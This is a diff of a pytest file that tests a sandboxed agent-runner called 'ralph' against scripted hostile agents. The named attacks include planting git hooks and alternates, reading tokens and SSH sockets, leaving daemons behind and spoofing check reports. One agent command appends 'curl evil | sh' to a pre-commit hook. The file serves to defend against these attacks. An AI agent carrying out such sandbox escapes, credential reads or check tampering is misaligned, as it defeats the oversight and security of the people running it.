@@ -15,14 +15,13 @@ import sysconfig
 from pathlib import Path
 
 import pytest
-
 from conftest import SANDBOX_MODES, git, lap_notes, make_repo, needs_bwrap, ralph, snapshot
 
 PY = sys.executable
 
 # Every attack is a function of the agent script below; a test names the ones its agent runs.
 # `users` is the repository's git dir as an attacker finds it: the lap's alternates name its objects.
-ATTACKS = r'''
+ATTACKS = r"""
 import glob, json, os, pathlib, signal, subprocess, sys
 lap = int(os.environ["RALPH_LAP"])
 out = pathlib.Path(os.environ["OUT"])
@@ -112,21 +111,33 @@ calc = pathlib.Path("calc.py")
 calc.write_text("def add(a, b):\n    return a + b\n")
 todo = pathlib.Path("TODO.md")
 todo.write_text(todo.read_text().replace("- [ ]", "- [x]", 1))
-'''
+"""
 
 
-def hostile(tmp_path: Path, attacks: str, sandbox: str = "auto", check: str = "grep -q 'a + b' calc.py",
-            items: int = 1) -> tuple[Path, dict]:
+def hostile(
+    tmp_path: Path, attacks: str, sandbox: str = "auto", check: str = "grep -q 'a + b' calc.py", items: int = 1
+) -> tuple[Path, dict]:
     """A repository whose lap-1 agent runs `attacks`; returns it and the environment to run ralph with."""
     out = tmp_path / "out"
     out.mkdir()
     agent = tmp_path / "agent.py"
     agent.write_text(ATTACKS)
-    config = {"goal": "g", "agent": {"kind": "command", "command": f"{PY} {agent}"}, "checks": [check],
-              "limits": {"max_laps": 2}, "sandbox": {"mode": sandbox, "writable": [str(out)]}}
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": f"{PY} {agent}"},
+        "checks": [check],
+        "limits": {"max_laps": 2},
+        "sandbox": {"mode": sandbox, "writable": [str(out)]},
+    }
     todo = "".join(f"- [ ] item {n}\n" for n in range(items))
-    repo = make_repo(tmp_path / "repo", {"calc.py": "def add(a, b):\n    raise NotImplementedError\n",
-                                         "TODO.md": todo, "ralph.yaml": json.dumps(config)})
+    repo = make_repo(
+        tmp_path / "repo",
+        {
+            "calc.py": "def add(a, b):\n    raise NotImplementedError\n",
+            "TODO.md": todo,
+            "ralph.yaml": json.dumps(config),
+        },
+    )
     (repo / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\nexit 0\n")
     git(repo, "worktree", "add", "-q", "--detach", str(tmp_path / "mine"))
     git(repo, "branch", "feature")
@@ -155,8 +166,11 @@ def git_dir_state(repo: Path) -> dict[str, str]:
 
 @needs_bwrap
 def test_one_lap_that_tries_everything_leaves_the_repository_byte_identical(tmp_path: Path):
-    repo, env = hostile(tmp_path, "plant_in_the_git_dir replace_a_hook_by_a_folder stash_and_branch read_secrets "
-                                  "leave_daemons stop_ralph plant_a_pth point_dot_git_elsewhere")
+    repo, env = hostile(
+        tmp_path,
+        "plant_in_the_git_dir replace_a_hook_by_a_folder stash_and_branch read_secrets "
+        "leave_daemons stop_ralph plant_a_pth point_dot_git_elsewhere",
+    )
     before = git_dir_state(repo)
     result = ralph(repo, "run", "--name", "r", env=dict(env, GITHUB_TOKEN="canary-token"))
     assert result.returncode == 0, result.stdout + result.stderr
@@ -164,8 +178,15 @@ def test_one_lap_that_tries_everything_leaves_the_repository_byte_identical(tmp_
     (lap,) = lap_notes(repo, "r")
     assert lap["status"] == "green" and git(repo, "rev-parse", "ralph/r") == lap["commit"]
     out = tmp_path / "out"
-    for planted in ("alternates", "gitdir", "shallow", "MERGE_HEAD", "config.worktree", "reference-transaction",
-                    "post-checkout"):
+    for planted in (
+        "alternates",
+        "gitdir",
+        "shallow",
+        "MERGE_HEAD",
+        "config.worktree",
+        "reference-transaction",
+        "post-checkout",
+    ):
         assert "Read-only file system" in (out / f"refused-{planted}").read_text()
     seen = json.loads((out / "secrets").read_text())
     assert seen == {"environ": [], "credential": "", "sock": None}
@@ -199,10 +220,21 @@ def test_unsandboxed_what_a_lap_plants_in_the_git_dir_is_put_back(tmp_path: Path
     assert result.returncode == 0, result.stdout + result.stderr
     first, second = lap_notes(repo, "r")
     assert first["status"] == "red" and second["status"] == "green"
-    for what in ("objects/info/alternates added", "shallow added", "MERGE_HEAD added", "config.worktree added",
-                 "hooks/reference-transaction added", "hooks/pre-push deleted", "config changed",
-                 "refs/heads/main deleted", "worktrees/mine/gitdir changed", "hooks/post-checkout added",
-                 "refs/heads/feature moved", "hooks/pre-commit.sample changed", "hooks/post-merge added"):
+    for what in (
+        "objects/info/alternates added",
+        "shallow added",
+        "MERGE_HEAD added",
+        "config.worktree added",
+        "hooks/reference-transaction added",
+        "hooks/pre-push deleted",
+        "config changed",
+        "refs/heads/main deleted",
+        "worktrees/mine/gitdir changed",
+        "hooks/post-checkout added",
+        "refs/heads/feature moved",
+        "hooks/pre-commit.sample changed",
+        "hooks/post-merge added",
+    ):
         assert what in first["reason"]
     assert git_dir_state(repo) == before
 
@@ -261,8 +293,9 @@ def test_sandbox_required_without_bubblewrap_refuses_to_start(tmp_path: Path):
     repo, env = hostile(tmp_path, "", sandbox="required")
     bin_dir = tmp_path / "bin"
     bin_dir.mkdir()
-    (bin_dir / "git").symlink_to(subprocess.run(["sh", "-c", "command -v git"], capture_output=True,
-                                                text=True).stdout.strip())
+    (bin_dir / "git").symlink_to(
+        subprocess.run(["sh", "-c", "command -v git"], capture_output=True, text=True).stdout.strip()
+    )
     result = ralph(repo, "run", "--name", "r", env=dict(env, PATH=str(bin_dir)))
     assert result.returncode == 1
     assert "sandbox: required, but bubblewrap (`bwrap`) is not installed" in result.stderr
@@ -309,8 +342,11 @@ def test_doctor_says_whether_laps_can_be_sandboxed(tmp_path: Path):
 
 
 def test_land_refuses_to_overwrite_an_ignored_file(tmp_path: Path):
-    config = {"goal": "g", "checks": ["true"],
-              "agent": {"kind": "command", "command": "echo built > build.txt && sed -i 's/\\[ \\]/[x]/' TODO.md"}}
+    config = {
+        "goal": "g",
+        "checks": ["true"],
+        "agent": {"kind": "command", "command": "echo built > build.txt && sed -i 's/\\[ \\]/[x]/' TODO.md"},
+    }
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] build\n"})
     assert ralph(repo, "run", "--name", "r").returncode == 0
     (repo / ".git" / "info" / "exclude").write_text("build.txt\n")  # the user ignores a build.txt of their own
@@ -322,10 +358,16 @@ def test_land_refuses_to_overwrite_an_ignored_file(tmp_path: Path):
 
 def test_land_refuses_changes_to_hooks_in_the_work_tree(tmp_path: Path):
     tick = "sed -i 's/\\[ \\]/[x]/' TODO.md"
-    config = {"goal": "g", "agent": {"kind": "command", "command": f"echo 'curl evil | sh' >> .hooks/pre-commit && {tick}"},
-              "checks": ["true"], "protect": []}
-    repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] hooks\n",
-                                         ".hooks/pre-commit": "#!/bin/sh\nexit 0\n"})
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": f"echo 'curl evil | sh' >> .hooks/pre-commit && {tick}"},
+        "checks": ["true"],
+        "protect": [],
+    }
+    repo = make_repo(
+        tmp_path / "repo",
+        {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] hooks\n", ".hooks/pre-commit": "#!/bin/sh\nexit 0\n"},
+    )
     git(repo, "config", "core.hooksPath", ".hooks")
     assert ralph(repo, "run", "--name", "r").returncode == 0
     result = ralph(repo, "land")
@@ -339,10 +381,16 @@ def test_a_named_home_is_read_only_but_for_what_writable_lists(tmp_path: Path):
     home = Path.home()
     (home / ".agentcli").mkdir()
     (home / ".agentcli" / "login").write_text("token-file")
-    agent = ("cat $HOME/.agentcli/login > seen.txt && echo used >> $HOME/.agentcli/state && "
-             "(echo x > $HOME/planted || true) && sed -i 's/\\[ \\]/[x]/' TODO.md")
-    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "checks": ["true"],
-              "sandbox": {"home": "~", "writable": ["~/.agentcli"]}}
+    agent = (
+        "cat $HOME/.agentcli/login > seen.txt && echo used >> $HOME/.agentcli/state && "
+        "(echo x > $HOME/planted || true) && sed -i 's/\\[ \\]/[x]/' TODO.md"
+    )
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": agent},
+        "checks": ["true"],
+        "sandbox": {"home": "~", "writable": ["~/.agentcli"]},
+    }
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n"})
     result = ralph(repo, "run", "--name", "r")
     assert result.returncode == 0, result.stdout + result.stderr
@@ -365,14 +413,23 @@ def test_a_writable_path_that_does_not_exist_is_refused(tmp_path: Path):
 def test_the_checks_run_on_what_a_checkout_of_the_commit_holds(tmp_path: Path, sandbox: str):
     """An `ident` attribute makes git store `$Id$` for the `$Id: 1 $` the lap wrote: the checks
     must see what a checkout of the commit holds (`$Id: <blob> $`), not the lap's bytes."""
-    agent = ("printf 'calc.py ident\\n' > .gitattributes && "
-             "printf 'ID = \"$Id: 1 $\"\\n\\ndef ok():\\n    return ID == \"$\" + \"Id: 1 $\"\\n' > calc.py && "
-             "sed -i 's/\\[ \\]/[x]/' TODO.md")
-    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "sandbox": sandbox,
-              "checks": [f"{PY} -c 'import calc; assert calc.ok()'"], "limits": {"max_laps": 1},
-              "protect": []}  # this test is about the checks, not the guard of .gitattributes
-    repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n",
-                                         "calc.py": "def ok():\n    return True\n"})
+    agent = (
+        "printf 'calc.py ident\\n' > .gitattributes && "
+        'printf \'ID = "$Id: 1 $"\\n\\ndef ok():\\n    return ID == "$" + "Id: 1 $"\\n\' > calc.py && '
+        "sed -i 's/\\[ \\]/[x]/' TODO.md"
+    )
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": agent},
+        "sandbox": sandbox,
+        "checks": [f"{PY} -c 'import calc; assert calc.ok()'"],
+        "limits": {"max_laps": 1},
+        "protect": [],
+    }  # this test is about the checks, not the guard of .gitattributes
+    repo = make_repo(
+        tmp_path / "repo",
+        {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n", "calc.py": "def ok():\n    return True\n"},
+    )
     ralph(repo, "run", "--name", "r")
     (lap,) = lap_notes(repo, "r")
     assert lap["status"] == "red" and "check regressed" in lap["reason"]
@@ -384,8 +441,11 @@ def test_a_report_a_check_replaced_by_a_fifo_or_a_link_is_not_read(tmp_path: Pat
     """The link points at a valid report of one passing test: read, it would count."""
     valid = '{"test": "t.py::test_x", "when": "call", "outcome": "passed"}'
     check = f"f=$RALPH_PYTEST_REPORT; rm -f $f; echo '{valid}' > $f.real; {planted}; true"
-    config = {"goal": "g", "agent": {"kind": "command", "command": "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x"},
-              "checks": [check]}
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x"},
+        "checks": [check],
+    }
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n"})
     result = ralph(repo, "run", "--name", "r", timeout=60)
     assert result.returncode == 0, result.stdout + result.stderr
@@ -409,16 +469,27 @@ def test_no_socket_outside_the_lap_is_reachable_in_the_sandbox(tmp_path: Path):
             server.listen()
             servers.append(server)
         (folders[2] / "bin").mkdir()  # a folder on PATH beside the socket: it alone comes back
-        look = (f"{PY} -c \"import glob, json, pathlib; pathlib.Path('{tmp_path}/out/socks.json').write_text("
-                "json.dumps(glob.glob('/tmp/ralphtest-*/agent.*') + glob.glob('/var/tmp/ralphtest-*/agent.*') + "
-                "glob.glob('/run/ralphtest-*/agent.*') + glob.glob('/run/ralphtest-*/bin')))\" && "
-                "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x")
+        look = (
+            f"{PY} -c \"import glob, json, pathlib; pathlib.Path('{tmp_path}/out/socks.json').write_text("
+            "json.dumps(glob.glob('/tmp/ralphtest-*/agent.*') + glob.glob('/var/tmp/ralphtest-*/agent.*') + "
+            "glob.glob('/run/ralphtest-*/agent.*') + glob.glob('/run/ralphtest-*/bin')))\" && "
+            "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x"
+        )
         (tmp_path / "out").mkdir()
-        config = {"goal": "g", "agent": {"kind": "command", "command": look}, "checks": ["true"],
-                  "sandbox": {"writable": [str(tmp_path / "out")]}}
+        config = {
+            "goal": "g",
+            "agent": {"kind": "command", "command": look},
+            "checks": ["true"],
+            "sandbox": {"writable": [str(tmp_path / "out")]},
+        }
         repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n"})
-        result = ralph(repo, "run", "--name", "r", env={"SSH_AUTH_SOCK": str(folders[0] / "agent.1"),
-                                                        "PATH": f"{folders[2] / 'bin'}:{os.environ['PATH']}"})
+        result = ralph(
+            repo,
+            "run",
+            "--name",
+            "r",
+            env={"SSH_AUTH_SOCK": str(folders[0] / "agent.1"), "PATH": f"{folders[2] / 'bin'}:{os.environ['PATH']}"},
+        )
     finally:
         for server in servers:
             server.close()
@@ -440,12 +511,19 @@ def test_what_a_lap_leaves_in_a_submodule_is_not_judged(tmp_path: Path, sandbox:
     """The checks see the submodule at the commit's gitlink, as a clone would: not a file the lap
     left uncommitted in it, nor one a hook planted in the submodule's git dir writes back."""
     library = make_repo(tmp_path / "library", {"lib.txt": "library\n"})
-    plant = ("d=$(git -C vendor/lib rev-parse --absolute-git-dir) && "
-             "printf '#!/bin/sh\\ntouch vendor/lib/extra.txt\\n' > $d/fsmonitor && chmod +x $d/fsmonitor && "
-             "git -C vendor/lib config core.fsmonitor $d/fsmonitor")
+    plant = (
+        "d=$(git -C vendor/lib rev-parse --absolute-git-dir) && "
+        "printf '#!/bin/sh\\ntouch vendor/lib/extra.txt\\n' > $d/fsmonitor && chmod +x $d/fsmonitor && "
+        "git -C vendor/lib config core.fsmonitor $d/fsmonitor"
+    )
     agent = f"echo needs-extra > main.txt && touch vendor/lib/extra.txt && {plant} && sed -i 's/\\[ \\]/[x]/' TODO.md"
-    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "sandbox": sandbox,
-              "checks": ["! grep -q needs-extra main.txt || test -f vendor/lib/extra.txt"], "limits": {"max_laps": 1}}
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": agent},
+        "sandbox": sandbox,
+        "checks": ["! grep -q needs-extra main.txt || test -f vendor/lib/extra.txt"],
+        "limits": {"max_laps": 1},
+    }
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n", "main.txt": "\n"})
     git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "vendor/lib")
     git(repo, "commit", "-qm", "a submodule")
@@ -460,10 +538,17 @@ def test_a_gitmodules_path_outside_the_tree_is_never_touched(tmp_path: Path, pat
     victim.mkdir()
     (victim / "keep.txt").write_text("mine")
     path = str(victim) if path == "ABSOLUTE" else path
-    agent = (f"printf '[submodule \"x\"]\\n\\tpath = {path}\\n\\turl = /nonexistent\\n' > .gitmodules && "
-             "sed -i 's/\\[ \\]/[x]/' TODO.md")
-    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "checks": ["true"], "sandbox": "off",
-              "protect": []}  # (adding a .gitmodules needs a grant otherwise)
+    agent = (
+        f"printf '[submodule \"x\"]\\n\\tpath = {path}\\n\\turl = /nonexistent\\n' > .gitmodules && "
+        "sed -i 's/\\[ \\]/[x]/' TODO.md"
+    )
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": agent},
+        "checks": ["true"],
+        "sandbox": "off",
+        "protect": [],
+    }  # (adding a .gitmodules needs a grant otherwise)
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n"})
     result = ralph(repo, "run", "--name", "r")
     assert result.returncode == 0, result.stdout + result.stderr
@@ -471,11 +556,17 @@ def test_a_gitmodules_path_outside_the_tree_is_never_touched(tmp_path: Path, pat
 
 
 def test_a_gitlink_that_leads_nowhere_is_a_red_lap_not_the_end_of_the_run(tmp_path: Path):
-    agent = ("if [ $RALPH_LAP = 1 ]; then git init -q vendor/x && git -C vendor/x commit -q --allow-empty -m own && "
-             "printf '[submodule \"x\"]\\n\\tpath = vendor/x\\n\\turl = /nonexistent\\n' > .gitmodules; "
-             "else touch work.txt; fi && sed -i 's/\\[ \\]/[x]/' TODO.md && printf 'summary with a NUL \\0 and an escape \\033[31m in it\\n'")
-    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "checks": ["true"],
-              "protect": []}  # (adding a .gitmodules needs a grant otherwise)
+    agent = (
+        "if [ $RALPH_LAP = 1 ]; then git init -q vendor/x && git -C vendor/x commit -q --allow-empty -m own && "
+        "printf '[submodule \"x\"]\\n\\tpath = vendor/x\\n\\turl = /nonexistent\\n' > .gitmodules; "
+        "else touch work.txt; fi && sed -i 's/\\[ \\]/[x]/' TODO.md && printf 'summary with a NUL \\0 and an escape \\033[31m in it\\n'"
+    )
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": agent},
+        "checks": ["true"],
+        "protect": [],
+    }  # (adding a .gitmodules needs a grant otherwise)
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n"})
     result = ralph(repo, "run", "--name", "r")
     assert result.returncode == 0, result.stdout + result.stderr
@@ -486,10 +577,16 @@ def test_a_gitlink_that_leads_nowhere_is_a_red_lap_not_the_end_of_the_run(tmp_pa
 
 
 def test_an_untracked_gitignore_cannot_hide_files_from_the_commit_but_not_the_checks(tmp_path: Path):
-    agent = ("echo needs-marker > main.txt && mkdir sub && printf '*\\n' > sub/.gitignore && touch sub/marker && "
-             "sed -i 's/\\[ \\]/[x]/' TODO.md")
-    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "limits": {"max_laps": 1},
-              "checks": ["test -f sub/marker || ! grep -q needs-marker main.txt"]}
+    agent = (
+        "echo needs-marker > main.txt && mkdir sub && printf '*\\n' > sub/.gitignore && touch sub/marker && "
+        "sed -i 's/\\[ \\]/[x]/' TODO.md"
+    )
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": agent},
+        "limits": {"max_laps": 1},
+        "checks": ["test -f sub/marker || ! grep -q needs-marker main.txt"],
+    }
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n", "main.txt": "\n"})
     ralph(repo, "run", "--name", "r")
     (lap,) = lap_notes(repo, "r")
@@ -504,8 +601,14 @@ def test_ralph_run_re_executes_the_installed_ralph_not_a_folder_named_ralph_in_t
     git(repo, "add", "ralph")
     git(repo, "commit", "-qm", "a folder named ralph")
     script = shutil.which("ralph") or pytest.skip("the ralph script is not on PATH")
-    result = subprocess.run([script, "run", "--name", "r"], cwd=repo, capture_output=True, text=True, timeout=120,
-                            env=dict(os.environ, **env, OPENAI_API_KEY="canary-key"))
+    result = subprocess.run(
+        [script, "run", "--name", "r"],
+        cwd=repo,
+        capture_output=True,
+        text=True,
+        timeout=120,
+        env=dict(os.environ, **env, OPENAI_API_KEY="canary-key"),
+    )
     assert "HIJACKED" not in result.stdout and result.returncode == 0, result.stdout + result.stderr
 
 
@@ -513,35 +616,55 @@ def test_ralph_run_re_executes_the_installed_ralph_not_a_folder_named_ralph_in_t
 def test_a_repository_the_lap_makes_inside_the_tree_is_a_red_lap(tmp_path: Path, sandbox: str):
     """git would commit it as a gitlink to a commit that exists nowhere, while the checks saw its
     files: code that no commit holds (and `ralph land` would have landed without it)."""
-    agent = ("mkdir pkg && echo 'X = 1' > pkg/helper.py && git -C pkg init -q && git -C pkg add -A && "
-             "git -C pkg -c user.name=a -c user.email=a@b commit -qm own && "
-             "echo 'from pkg.helper import X' > calc.py && sed -i 's/\\[ \\]/[x]/' TODO.md")
-    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "sandbox": sandbox,
-              "checks": [f"{PY} -c 'import calc'"], "limits": {"max_laps": 1}}
+    agent = (
+        "mkdir pkg && echo 'X = 1' > pkg/helper.py && git -C pkg init -q && git -C pkg add -A && "
+        "git -C pkg -c user.name=a -c user.email=a@b commit -qm own && "
+        "echo 'from pkg.helper import X' > calc.py && sed -i 's/\\[ \\]/[x]/' TODO.md"
+    )
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": agent},
+        "sandbox": sandbox,
+        "checks": [f"{PY} -c 'import calc'"],
+        "limits": {"max_laps": 1},
+    }
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n", "calc.py": "\n"})
     ralph(repo, "run", "--name", "r")
     (lap,) = lap_notes(repo, "r")
-    assert lap["status"] == "red" and "the lap made repositories inside the tree, whose files no commit holds: pkg" \
-        in lap["reason"]
+    assert (
+        lap["status"] == "red"
+        and "the lap made repositories inside the tree, whose files no commit holds: pkg" in lap["reason"]
+    )
     assert git(repo, "rev-parse", "ralph/r") == git(repo, "rev-parse", "refs/ralph/r/base")
 
 
 def test_a_folder_a_check_leaves_where_its_report_goes_is_no_crash(tmp_path: Path):
     check = {"run": "f=$RALPH_PYTEST_REPORT; mkdir -p $f/inside; test -f done || (touch done; false)", "retries": 1}
-    config = {"goal": "g", "agent": {"kind": "command", "command": "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x"},
-              "checks": [check], "sandbox": "off"}
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": "sed -i 's/\\[ \\]/[x]/' TODO.md && touch x"},
+        "checks": [check],
+        "sandbox": "off",
+    }
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": "- [ ] x\n"})
     result = ralph(repo, "run", "--name", "r")
     assert "internal error" not in result.stderr and result.returncode == 0, result.stdout + result.stderr
 
 
-@pytest.mark.parametrize("item, status", [("Use the library", "red"), ("Add the library as a submodule (.gitmodules)",
-                                                                         "green")])
+@pytest.mark.parametrize(
+    "item, status", [("Use the library", "red"), ("Add the library as a submodule (.gitmodules)", "green")]
+)
 def test_adding_a_submodule_needs_an_item_that_names_gitmodules(tmp_path: Path, item: str, status: str):
     library = make_repo(tmp_path / "library", {"lib.txt": "library\n"})
-    agent = (f"git -c protocol.file.allow=always submodule add -q {library} vendor/lib && "
-             "sed -i 's/\\[ \\]/[x]/' TODO.md")
-    config = {"goal": "g", "agent": {"kind": "command", "command": agent}, "checks": ["true"], "limits": {"max_laps": 1}}
+    agent = (
+        f"git -c protocol.file.allow=always submodule add -q {library} vendor/lib && sed -i 's/\\[ \\]/[x]/' TODO.md"
+    )
+    config = {
+        "goal": "g",
+        "agent": {"kind": "command", "command": agent},
+        "checks": ["true"],
+        "limits": {"max_laps": 1},
+    }
     repo = make_repo(tmp_path / "repo", {"ralph.yaml": json.dumps(config), "TODO.md": f"- [ ] {item}\n"})
     ralph(repo, "run", "--name", "r")
     (lap,) = lap_notes(repo, "r")
